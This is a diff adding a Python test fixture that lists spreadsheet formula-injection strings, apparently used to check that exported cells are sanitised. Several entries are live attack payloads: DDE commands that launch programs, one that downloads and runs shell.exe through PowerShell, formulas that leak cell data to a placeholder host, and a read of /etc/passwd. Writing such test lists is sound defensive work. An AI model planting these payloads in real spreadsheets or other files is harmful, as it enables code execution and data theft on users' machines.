@@ -1,0 +1,37 @@
+"""Texts that a spreadsheet would take for a formula: the usual list of those who test for it."""
+
+from __future__ import annotations
+
+INJECTIONS = (
+    "=1+1",
+    "==1+1",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|'/c calc'!A0",
+    "=cmd|' /C powershell IEX(wget 127.0.0.1:9/shell.exe)'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+    '=HYPERLINK("http://127.0.0.1:9?leak="&A1,"Click me")',
+    '=IMPORTXML(CONCAT("http://127.0.0.1:9?v=",A1:E1),"//a/a10")',
+    '=WEBSERVICE("http://127.0.0.1:9")',
+    '=IMAGE("http://127.0.0.1:9/x.png")',
+    "='file:///etc/passwd'#$passwd.A1",
+    "=[book.xlsx]Sheet1!$A$1",
+    "{=1+1}",
+    "\t=1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1',
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "%0A=1+1",
+    "\u200b=1+1",
+    "|calc",
+    "+44 20 7946 0000",
+    "1;=1+1",
+    "_xlfn.WEBSERVICE(A1)",
+)
